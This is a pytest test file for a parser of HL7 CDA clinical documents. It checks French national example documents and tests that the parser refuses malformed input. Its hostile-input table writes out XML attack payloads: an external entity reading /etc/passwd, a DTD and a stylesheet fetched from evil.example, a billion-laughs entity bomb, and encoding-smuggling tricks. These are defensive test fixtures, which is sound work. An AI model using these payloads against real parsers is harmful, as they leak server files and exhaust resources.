"""CDA documents: the national examples are read as a person reads them, hostile ones are refused fast."""

import base64
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ens.formats.cda import CdaIdentity, extract_body, read_cda
from ens.formats.sniff import CDA, PDF, sniff
from ens.kernel.errors import HouseError, Invalid, Malformed, TooLarge, WrongType
from ens.kernel.identifiers import INS_NIR, INS_TEST
from ens.kernel.identity import Identity
from ens.records.identity import compare

pytestmark = pytest.mark.threat("T-13")

NATIONAL = Path(__file__).resolve().parents[3] / "shared" / "data" / "ans" / "cda"
needs_national = pytest.mark.skipif(not NATIONAL.exists(), reason="the national documents are not on this machine")

DOMINIQUE = CdaIdentity(
    ((INS_TEST, "279035121518989"), ("1.2.3.4.567.8.9.10", "1234567890121")),
    "PAT-TROIS",
    "DOMINIQUE",
    "DOMINIQUE MARIE-LOUISE",
    "1979-03-28",
    "female",
)
PERSON = Identity(
    "279035121518989", INS_TEST, "PAT-TROIS", ("DOMINIQUE", "MARIE-LOUISE"), "1979-03-28", "female", "51215"
)

# file, type, title, first author, organisation, date in UTC, level
EXAMPLES = [
    (
        "BIO-CR-BIO_2021.01_CDA-R2-Niveau-1.xml",
        "11502-2",
        "Compte rendu d'examens biologiques",
        "Marcel CAMPARINI",
        "Laboratoire des charmes",
        "2021-01-04T15:05:27",
        1,
    ),
    (
        "BIO-CR-BIO_2024.01_TSH_1.xml",
        "11502-2",
        "Compte rendu d'examens biologiques",
        "Marcel CAMPARINI",
        "Laboratoire des charmes",
        "2021-04-01T16:10:00",
        3,
    ),
    (
        "CARD-F-PRC-AVK_2022.01.xml",
        "34133-9",
        "Fiche patient à risque en cardiologie - Traitement AVK",
        "Charles DUNANT",
        "",
        "2008-09-29T08:49:14",
        3,
    ),
    (
        "CNAM-HR_2021.01.xml",
        "REMB",
        "Données de remboursement",
        "Assurance Maladie",
        "Assurance Maladie",
        "2019-07-01T15:49:00",
        3,
    ),
    (
        "CSE-CS8_2025.01.xml",
        "CERT_DECL",
        "Premier certificat de santé (à établir obligatoirement dans les 8 jours suivant la naissance)",
        "Charles MULLER",
        "Clinique du Belvédère",
        "2021-05-03T10:45:00",
        3,
    ),
    (
        "CSE-MDE_2023.01.xml",
        "29274-8",
        "Carnet de santé de l'enfant - Mesures de l'enfant",
        "Charles MULLER",
        "Centre de santé du Belvédère",
        "2023-01-06T10:36:23",
        3,
    ),
    (
        "DOC_NON_STRUCTURE_CDA-R2-N1.xml",
        "11502-2",
        "Compte rendu d'examens biologiques",
        "Marcel CAMPARINI",
        "Laboratoire des charmes",
        "2021-04-01T12:47:45",
        1,
    ),
    (
        "IMG-DA-IMG_2024.01_Radiographie_ChevilleGenou.xml",
        "55115-0",
        "Demande d'acte d'imagerie",
        "Charles BOILEAU",
        "HU ROBERT DEBRE APHP",
        "2021-01-12T10:17:00",
        3,
    ),
    (
        "IMG_CR_IMG_2024.01_CDA-R2-Niveau-1.xml",
        "18748-4",
        "CR d’imagerie médicale - Scanner Tête + Cou + Thorax avec injection",
        "Jacques BIDEAULT",
        "Centre de radiologie Ambroise",
        "2021-01-08T10:17:00",
        1,
    ),
    (
        "LDL-EES_2022.01.xml",
        "18761-7",
        "Lettre de liaison à l'entrée en établissement de santé",
        "Charles BOILEAU",
        "Centre de soins du Belvédère",
        "2019-10-29T10:17:00",
        3,
    ),
    (
        "LDL-SES_2022.01.xml",
        "11490-0",
        "Lettre de liaison à la sortie de l'établissement de santé",
        "Charles DAVID",
        "Hôpital Européen Georges Pompidou",
        "2019-12-03T12:30:00",
        3,
    ),
    (
        "TLM-CR_2022.01.xml",
        "85208-7",
        "Compte-rendu de téléconsultation",
        "Olivier DUMAS",
        "GRP HOSP UNIVERSITAIRE PARIS OUEST SITE G POMPIDOU APHP",
        "2020-03-27T14:35:00",
        1,
    ),
    (
        "VAC_2023.01.xml",
        "11369-6",
        "Historique de vaccinations",
        "Charles MULLER",
        "Cabinet Médical du Dr MULLER",
        "2021-04-09T16:00:00",
        3,
    ),
    (
        "VSM_1.4_2022.01.xml",
        "SYNTH",
        "Synthèse Médicale",
        "Stéphane MEDIONI",
        "Centre de soins le Belvédère",
        "2020-03-12T10:17:00",
        3,
    ),
    (
        "eDISP-MED_2024.01.xml",
        "60593-1",
        "Dispensation médicamenteuse",
        "Dossier Pharmaceutique",
        "CONSEIL NATIONAL ORDRE DES PHARMACIENS",
        "2024-12-25T08:30:00",
        3,
    ),
    (
        "eP-MED-DM_2024.01_PosoStruct.xml",
        "57833-6",
        "Prescription de médicaments et/ou de dispositifs médicaux",
        "Romain PIOU",
        "Cabinet du DR Pierre JOLI",
        "2023-12-01T08:30:00",
        3,
    ),
]
OTHER_PATIENTS = {"CSE-CS8_2025.01.xml", "CSE-MDE_2023.01.xml", "eDISP-MED_2024.01.xml"}


@needs_national
@pytest.mark.parametrize(
    ("name", "code", "title", "author", "organisation", "iso", "level"), EXAMPLES, ids=[row[0] for row in EXAMPLES]
)
def test_national_documents_are_read(
    name: str, code: str, title: str, author: str, organisation: str, iso: str, level: int
) -> None:
    """Type, title, author, date, patient and body of each example."""
    content = (NATIONAL / name).read_bytes()
    assert sniff(content, "text/xml") == CDA
    header = read_cda(content)
    date = int(datetime.fromisoformat(iso).replace(tzinfo=UTC).timestamp()) * 1_000_000
    assert (header.type_code, header.title, header.date, header.level) == (code, title, date, level)
    assert (header.authors[0].name, header.authors[0].organisation) == (author, organisation)
    assert header.confidentiality == "N"
    assert header.unique_id.startswith("1.")
    assert header.set_id.startswith("1.")
    assert header.service_start is not None
    assert header.identity is not None
    if name not in OTHER_PATIENTS:
        assert header.identity.identifiers[0] == DOMINIQUE.identifiers[0]
        assert header.identity.birth_name == DOMINIQUE.birth_name
        assert compare(header.identity, PERSON) == []
    else:
        assert "matricule" in compare(header.identity, PERSON)
    body = extract_body(content)
    assert (body is None) == (level == 3)
    assert body is None or (body[0] == PDF and sniff(body[1], PDF) == PDF)


@needs_national
def test_the_folder_holds_exactly_the_documents_of_the_table() -> None:
    """No example is left unread."""
    assert {path.name for path in NATIONAL.glob("*.xml")} == {row[0] for row in EXAMPLES}


@needs_national
def test_details_of_national_headers() -> None:
    """Professions, versions, replaced documents, second authors and qualified names."""
    image = read_cda((NATIONAL / "IMG_CR_IMG_2024.01_CDA-R2-Niveau-1.xml").read_bytes())
    assert image.replaces == ("90E1C8EC-F951-4B26-A305-A34848818DD6",)
    assert (image.version, image.set_id) == (2, "1.2.250.1.213.1.1.1.45.2024.2")
    author = image.authors[0]
    assert (author.profession, author.specialty) == ("10", "SM44")
    assert (author.identifier, author.organisation_identifier) == ("801234560801", "1750803447")
    dispensed = read_cda((NATIONAL / "eDISP-MED_2024.01.xml").read_bytes())
    assert [writer.name for writer in dispensed.authors] == ["Dossier Pharmaceutique", "Pierre DELIVE"]
    assert dispensed.authors[1].profession == "21"
    assert dispensed.identity == CdaIdentity(
        ((INS_NIR, "277076322082910"), ("1.2.3.4.567.8.9.10", "1234567890121")),
        "NESSI",
        "RUTH",
        "ISABELLE",
        "1977-07-14",
        "female",
    )


HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet href="http://evil.example/x.xsl"?><!-- <!DOCTYPE a> -->'
    '<ClinicalDocument xmlns="urn:hl7-org:v3"><id root="1.2.3" extension="a"/>'
    '<code code="11488-4" codeSystem="2.16.840.1.113883.6.1" displayName="CR"/>'
    '<effectiveTime value="20260102"/>'
)
TAIL = "</ClinicalDocument>"


def test_a_document_without_patient_or_title_is_read() -> None:
    """Identity None; the title falls back on the type; ids with an extension are joined."""
    header = read_cda(f"{HEAD}{TAIL}".encode())
    assert header.identity is None
    assert (header.title, header.unique_id, header.level, header.authors) == ("CR", "1.2.3^a", 3, ())
    assert (header.version, header.set_id, header.service_start) == (1, "", None)


@pytest.mark.parametrize(
    "cut", ['<id root="1.2.3" extension="a"/>', 'code="11488-4"', '<effectiveTime value="20260102"/>']
)
def test_an_incomplete_header_is_invalid(cut: str) -> None:
    """Without id, type or date a document cannot be filed."""
    with pytest.raises(Invalid):
        read_cda(f"{HEAD}{TAIL}".replace(cut, "").encode())


def test_two_patients_are_refused() -> None:
    """A document of two people belongs to no space."""
    with pytest.raises(Invalid) as caught:
        read_cda(f"{HEAD}{'<recordTarget><patientRole/></recordTarget>' * 2}{TAIL}".encode())
    assert caught.value.reasons == ("cda-patients",)


def test_odd_versions_are_the_first() -> None:
    """A version that is not a small number is 1."""
    for value in ("x", "-1", "9" * 40, "²"):
        assert read_cda(f'{HEAD}<versionNumber value="{value}"/>{TAIL}'.encode()).version == 1


def test_bodies_are_taken_out() -> None:
    """Base64 with line breaks, plain text, and broken base64."""

    def wrap(attributes: str, text: str) -> bytes:
        body = f"<component><nonXMLBody><text {attributes}>{text}</text></nonXMLBody></component>"
        return f"{HEAD}{body}{TAIL}".encode()

    packed = base64.encodebytes(b"%PDF-1.7 x" * 20).decode()
    written = wrap('mediaType="application/pdf" representation="B64"', packed)
    assert extract_body(written) == ("application/pdf", b"%PDF-1.7 x" * 20)
    assert read_cda(written).body_type == "application/pdf"
    assert extract_body(wrap('mediaType="text/plain"', "Bonjour")) == ("text/plain", b"Bonjour")
    with pytest.raises(Invalid):
        extract_body(wrap('representation="B64"', "***"))


DOCUMENT = f"{HEAD}{TAIL}"
BARE = DOCUMENT.split("?>", 1)[1]  # without its XML declaration
BOMB_LINES = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 50}">' for n in range(1, 10)]
HOSTILE = {
    "doctype": f"<!DOCTYPE ClinicalDocument>{BARE}",
    "doctype in small letters": f"<!doctype x>{BARE}",
    "doctype after a comment": f'<!-- x --><?pi?>\n<!DOCTYPE x SYSTEM "http://evil.example/">{BARE}',
    "external entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>{BARE[: -len(TAIL)]}&x;{TAIL}',
    "parameter entity": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>{BARE}',
    "billion laughs": f'<?xml version="1.0"?><!DOCTYPE b [{"".join(BOMB_LINES)}]>{BARE[: -len(TAIL)]}&a9;{TAIL}',
    "entity without doctype": f"{HEAD}&xxe;{TAIL}",
    "doctype far behind spaces": " " * 70_000 + f"<!DOCTYPE a>{BARE}",
    "endless comment": "<!-- " + "x" * 100_000,
    "many instructions": "<?a?>" * 100_000,
    "deep": HEAD + "<a>" * 100_000 + "</a>" * 100_000 + TAIL,
    "an attribute twice among many": HEAD + "<a " + " ".join(f"a{n}=''" for n in range(20_000)) + " a1=''/>" + TAIL,
    "not closed": HEAD,
    "two roots": DOCUMENT + "<a/>",
    "undeclared prefix": f"{HEAD}<x:a/>{TAIL}",
    "utf-7": DOCUMENT.replace("UTF-8", "UTF-7").replace("<ClinicalDocument", "+ADw-ClinicalDocument"),
    "unknown encoding": DOCUMENT.replace("UTF-8", "x-nothing"),
    "ebcdic name": DOCUMENT.replace("UTF-8", "IBM037"),
    "utf-16 name": DOCUMENT.replace("UTF-8", "UTF-16"),
    "empty": "",
    "text": "bonjour",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_refused_fast(name: str) -> None:
    """Each is Malformed, within half a second."""
    started = time.perf_counter()
    with pytest.raises(Malformed):
        read_cda(HOSTILE[name].encode())
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037"])
def test_wide_encodings_are_refused(codec: str) -> None:
    """The prolog can only be checked where `<` is one byte."""
    for written in (DOCUMENT, DOCUMENT.replace("UTF-8", codec.upper()), HOSTILE["billion laughs"]):
        with pytest.raises(HouseError):
            read_cda(written.encode(codec))


def test_a_mark_that_contradicts_the_declaration_is_refused() -> None:
    """UTF-8 mark with a Latin-1 declaration: two readers would read two texts."""
    written = DOCUMENT.replace("UTF-8", "ISO-8859-1").encode()
    assert read_cda(written).title == "CR"
    assert read_cda(b"\xef\xbb\xbf" + DOCUMENT.encode()).title == "CR"
    with pytest.raises(Malformed):
        read_cda(b"\xef\xbb\xbf" + written)


def test_latin_letters_are_read_in_the_declared_encoding() -> None:
    """Older software writes Latin-9."""
    written = DOCUMENT.replace("UTF-8", "iso-8859-15").replace(TAIL, f"<title>Hérédité, 5 €</title>{TAIL}")
    assert read_cda(written.encode("iso-8859-15")).title == "Hérédité, 5 €"


@pytest.mark.parametrize(
    "root", ['<ClinicalDocument xmlns="urn:hl7-org:v4"/>', "<ClinicalDocument/>", '<svg xmlns="urn:hl7-org:v3"/>']
)
def test_another_root_is_the_wrong_type(root: str) -> None:
    """Name and namespace both count."""
    with pytest.raises(WrongType):
        read_cda(root.encode())


def test_size_is_bounded_before_parsing() -> None:
    """One byte above the limit."""
    written = DOCUMENT.encode()
    assert read_cda(written, limit=len(written)).title == "CR"
    with pytest.raises(TooLarge):
        read_cda(written, limit=len(written) - 1)


def test_a_huge_attribute_is_refused_fast() -> None:
    """Longer than any text node that the parser takes."""
    started = time.perf_counter()
    with pytest.raises(HouseError):
        read_cda(f'{HEAD}<title x="{"x" * 10_100_000}"/>{TAIL}'.encode(), limit=50_000_000)
    assert time.perf_counter() - started < 1


@given(st.binary(max_size=400))
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    """Only house errors."""
    for written in (content, b"<?xml " + content, HEAD.encode() + content + TAIL.encode()):
        try:
            read_cda(written)
        except HouseError as error:
            assert error.detail  # noqa: PT017 - either outcome is right
